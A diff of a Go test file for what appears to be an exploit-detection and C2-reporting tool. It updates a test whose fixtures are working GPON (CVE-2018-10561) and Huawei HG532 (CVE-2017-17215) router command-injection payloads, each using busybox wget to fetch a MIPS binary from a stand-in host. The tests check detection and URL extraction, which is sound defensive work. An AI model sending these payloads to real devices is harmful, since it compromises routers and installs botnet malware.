@@ -149,33 +149,34 @@ func TestCronCommands(t *testing.T) {
 }
 
 func TestExploitMatcher(t *testing.T) {
-	m := BuiltinExploits()
+	m, err := DefaultExploits()
+	if err != nil {
+		t.Fatal(err)
+	}
 	gpon := []byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://198.51.100.99/bins/x.mips+-O+/tmp/gaf`")
 	hg532 := []byte("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 198.51.100.9 -l /tmp/x -r /bins/mips)</NewStatusURL>")
 	tests := []struct {
 		name    string
+		port    int
 		payload []byte
 		cve     string
 		urls    []string
 	}{
-		{"gpon", gpon, "CVE-2018-10561", []string{"http://198.51.100.99/bins/x.mips"}},
-		{"huawei", hg532, "CVE-2017-17215", nil},
-		{"plain GET", []byte("GET / HTTP/1.1\r\n\r\n"), "", nil},
+		{"gpon", 8080, gpon, "CVE-2018-10561", []string{"http://198.51.100.99/bins/x.mips"}},
+		{"huawei", 37215, hg532, "CVE-2017-17215", []string{"http://198.51.100.9/bins/mips"}},
+		{"plain GET", 80, []byte("GET / HTTP/1.1\r\n\r\n"), "", nil},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
-			ms := m.MatchRaw("tcp", 80, tc.payload)
+			ms := m.MatchRaw("tcp", tc.port, tc.payload)
 			if tc.cve == "" {
 				if len(ms) != 0 {
 					t.Errorf("matches = %+v", ms)
 				}
 				return
 			}
-			if len(ms) != 1 || !slices.Contains(ms[0].CVE, tc.cve) {
-				t.Errorf("matches = %+v, want %s", ms, tc.cve)
-			}
-			if tc.urls != nil && !slices.Equal(payloadURLs(tc.payload), tc.urls) {
-				t.Errorf("urls = %q", payloadURLs(tc.payload))
+			if len(ms) != 1 || !slices.Contains(ms[0].CVE, tc.cve) || !slices.Equal(ms[0].DownloadURLs, tc.urls) {
+				t.Errorf("matches = %+v, want %s fetching %v", ms, tc.cve, tc.urls)
 			}
 		})
 	}
@@ -192,7 +193,8 @@ func TestJoinNetwork(t *testing.T) {
 		{Kind: "tcp", Dst: mustAP("198.18.0.5:4444"), Bytes: 4, First: []byte("ping"), Duration: 30 * time.Second},
 	}
 	rep := &Report{}
-	joinNetwork(rep, f, recs, BuiltinExploits(), 10*time.Second)
+	m, _ := DefaultExploits()
+	joinNetwork(rep, f, recs, m, 10*time.Second)
 	if len(rep.C2) != 1 || rep.C2[0].Name != "c2.test" || len(rep.C2[0].Reasons) != 3 {
 		t.Errorf("c2 = %+v", rep.C2)
 	}
